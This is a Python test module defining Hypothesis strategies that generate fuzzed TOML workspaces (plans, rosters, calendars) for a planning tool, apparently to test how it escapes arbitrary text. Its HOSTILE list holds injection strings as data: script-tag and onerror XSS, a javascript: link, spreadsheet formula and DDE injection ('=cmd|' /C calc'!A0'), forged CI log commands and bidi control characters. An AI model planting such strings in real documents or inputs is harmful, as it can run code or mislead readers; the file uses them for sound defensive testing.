"""Hostile plans: whatever the format may hold, any text in any field, in any number.

`workspaces()` gives the files of a workspace that is read whole: a plan of any items,
the plan before it, roster and calendar. Fields are found in the models, so that a new
one is in the plans as soon as it is in the format.
"""

from __future__ import annotations

from datetime import date

import tomli_w
from hypothesis import strategies as st

from planner.model.categories import CATEGORIES
from planner.rules.references import BY_FILE, OF_ITEMS
from planner.rules.shape import of_file

PERIOD, BEFORE = "2027-H1", "2026-H2"
LANGUAGES = ("en", "fr", "ar", "pt-BR", "qaa")
ITEMS = tuple(f"item-{letter}{letter}" for letter in "abcdefgh")
OTHERS = tuple(f"{BEFORE}/{name}" for name in ITEMS[:3])
NAMES = {
    "unit": ("hub", "desk"),
    "person": ("amina", "jonas"),
    "region": ("mena", "east-africa", "africa"),
    "group": ("mena", "africa-group"),
    "theme": ("youth", "cooperation"),
    "city": ("rabat", "lome", "al-quds"),
    "organisation": ("our-network", "eu", "foundation"),
    "committee.seat": ("first", "second"),
    "event": ("summit", "forum"),
    "meeting": ("june", "december"),
}
HOSTILE = (
    "",
    " ",
    " edges ",
    "a | b || c \\| d",
    "`code` ``` ~~~ \\`",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<!-- comment --> --> ]]> &amp; &lt;",
    "@octocat #12 GH-12 :smile: www.example.org https://example.org/?a=1&b=2",
    "[x](javascript:alert(1)) ![y](http://example.org/z.png)",
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "+1-1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    "a; b\\; c;\\",
    'quotes " and "" and \\" and """ and \'\'\'',
    "ends with a backslash\\",
    "C:\\reports\\new",
    "first\nsecond\n\n  third\n",
    "carriage\r\nreturns\rhere",
    "\x00\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\x9b",
    "\u202eright to left\u202c \u2066isolate\u2069 \u200f\u200e\u061c",
    "line\u2028separator\u2029paragraph \ufeff \ufffd \ufffe",
    "Réseau, ŒUVRE, ﬁ, e\u0301",
    "خطة العمل، يناير إلى يونيو ٢٠٢٧",
    "План 计画 แผน 👩\u200d👩\u200d👧 🇲🇦",
    "##[error]x ::error::forged",
    "007",
    "2027-03-04",
    "TRUE",
    "# heading\n- list\n> quote\n1. one\n---\n",
    "BEGIN:VEVENT\nSUMMARY:x;y,z\\n",
    "__proto__",
    "%s {0} {fact} $x$ ^",
    "x" * 10_000,
    "word " * 2_000,
)
texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
    st.text("=+-@|`<>&[]*_\\#:;,!\"'\t\r\n \u202eaé\u0639", max_size=8),
)
names = st.sampled_from(("first", "second", "third-3", "n-2027-02-11", "mena-2"))
days = st.one_of(
    st.dates(date(2026, 6, 1), date(2028, 1, 31)),
    st.sampled_from((date(1, 1, 1), date(9999, 12, 31), date(2028, 2, 29))),
)
windows = st.sampled_from(("2027", "2027-H1", "2027-Q2", "2027-04", "1000", "2999-12"))
whole_numbers = st.integers(-(2**63), 2**63 - 1)
numbers = st.one_of(whole_numbers, st.floats(allow_nan=False, allow_infinity=False))
times = st.times()
_scalars = st.one_of(
    texts, whole_numbers, st.floats(allow_nan=False), st.booleans(), days, times
)
anything = st.recursive(
    _scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(texts, inner, max_size=3)
    ),
    max_leaves=5,
)
_PLAIN = {
    "text": texts,
    "name": names,
    "reference": st.sampled_from((*ITEMS, *OTHERS)),
    "period": st.sampled_from((BEFORE, PERIOD, "2027-H2")),
    "language": st.sampled_from(LANGUAGES),
    "country": st.sampled_from(("MA", "TG", "XK", "QQ")),
    "currency": st.sampled_from(("EUR", "USD", "XXX")),
    "date": days,
    "when": st.one_of(days, windows),
    "time": times,
    "count": whole_numbers,
    "number": numbers,
    "flag": st.booleans(),
    "any": anything,
}
_POINTS = {
    (each.keys, each.part): each.target for each in (*OF_ITEMS, *BY_FILE["plan"])
}
_FEW = 8


def _pointed(path, part, otherwise):
    """Return a strategy of the names that a place wants, else what else it may be."""
    target = _POINTS.get((".".join(path), part))
    if target is None or target.home not in {"network", "calendar", "plan"}:
        return otherwise
    if target.home == "plan":
        return st.sampled_from((*ITEMS, *(OTHERS if part == "value" else ())))
    known = [name for table in target.tables for name in NAMES[table]]
    return st.sampled_from([*known, *target.words, "not-in-the-roster"])


@st.composite
def values(draw, shape, path=(), most=_FEW):
    """Draw what may stand at a place, of at most so many fields in each table."""
    if shape.kind == "either":
        shape = draw(st.sampled_from(shape.options))
    if shape.kind == "table":
        return draw(tables(shape, path, most))
    if shape.kind == "map":
        keys = _pointed(path, "key", _keys(shape.key))
        inner = values(shape.inner, (*path, "*"), most)
        return draw(st.dictionaries(keys, inner, max_size=2))
    if shape.kind == "list":
        return draw(st.lists(values(shape.inner, path, most), max_size=3))
    if shape.kind == "choice":
        return draw(st.sampled_from(shape.choices))
    return draw(_pointed(path, "value", _PLAIN[shape.kind]))


def _keys(shape):
    if shape.kind == "choice":
        return st.sampled_from(shape.choices)
    return _PLAIN[shape.kind]


@st.composite
def tables(draw, shape, path=(), most=_FEW):
    """Draw a table: what it needs, and some of what it may have."""
    optional = [key for key in shape.fields if key not in shape.required]
    chosen = (
        draw(st.lists(st.sampled_from(optional), max_size=most, unique=True))
        if (optional)
        else []
    )
    return {
        key: draw(values(shape.fields[key], (*path, key), most))
        for key in (*shape.required, *chosen)
    }


@st.composite
def plans(draw, period=PERIOD, most=5):
    """Draw a plan as TOML holds it: a frame, and up to so many items."""
    shape = of_file("plan")
    frame = draw(tables(shape, most=4))
    named = draw(st.lists(st.sampled_from(ITEMS), max_size=most, unique=True))
    items = {}
    for name in named:
        category = draw(st.sampled_from(tuple(CATEGORIES)))
        table = shape.fields[category].inner
        items.setdefault(category, {})[name] = draw(tables(table))
    fixed = {"format": 1, "period": period}
    own = {key: value for key, value in frame.items() if key not in CATEGORIES}
    return {**own, **fixed, **items}


labels = st.one_of(
    texts, st.dictionaries(st.sampled_from(LANGUAGES), texts, min_size=1, max_size=2)
)


@st.composite
def rosters(draw):
    """Draw a roster in which the names are known, and anything is a label."""
    return {
        "format": 1,
        "network": {
            "name": draw(labels),
            "organisation": "our-network",
            "languages": ["en"],
        },
        "committee": {
            "name": draw(labels),
            "max_seats": 5,
            "seat": {name: {"city": "rabat"} for name in NAMES["committee.seat"]},
        },
        "region": {
            "mena": {"name": draw(labels), "countries": ["MA"]},
            "east-africa": {"name": draw(labels), "countries": ["KE"]},
            "africa": {"name": draw(labels), "includes": ["east-africa"]},
        },
        "group": {
            "mena": {"regions": ["mena"], "size": 8},
            "africa-group": {"name": draw(labels), "regions": ["africa"], "size": 8},
        },
        "unit": {name: {"name": draw(labels)} for name in NAMES["unit"]},
        "person": {
            name: {"name": draw(labels), "unit": "hub"} for name in NAMES["person"]
        },
        "city": {
            name: {"name": draw(labels), "country": "MA"} for name in NAMES["city"]
        },
        "organisation": {
            name: {"name": draw(labels)} for name in NAMES["organisation"]
        },
        "theme": {name: {"name": draw(labels)} for name in NAMES["theme"]},
    }


@st.composite
def calendars(draw):
    """Draw a calendar of the known meetings and events."""
    return {
        "format": 1,
        "meeting": {
            name: {"name": draw(labels), "start": draw(days)}
            for name in NAMES["meeting"]
        },
        "event": {
            name: {"name": draw(labels), "kind": "summit", "start": draw(days)}
            for name in NAMES["event"]
        },
    }


@st.composite
def workspaces(draw, most=5):
    """Draw the texts of a workspace by file; its plan is of `PERIOD`."""
    return written(
        {
            "planner": {"format": 1},
            "network": draw(rosters()),
            "calendar": draw(calendars()),
            PERIOD: draw(plans(most=most)),
            BEFORE: draw(plans(BEFORE, most=2)),
        }
    )


def written(files):
    """Return data as texts by file name."""
    return {f"{name}.toml": tomli_w.dumps(data) for name, data in files.items()}


def write(files, folder):
    """Write the texts of a workspace into a folder, and return it."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_bytes(text.encode())
    return folder


READERS = (
    "staff",
    "committee",
    "public",
    "meeting:june",
    "lead:hub",
    "region:mena",
    "region:africa",
    "donor:eu",
)
"""The readers that such a workspace knows."""
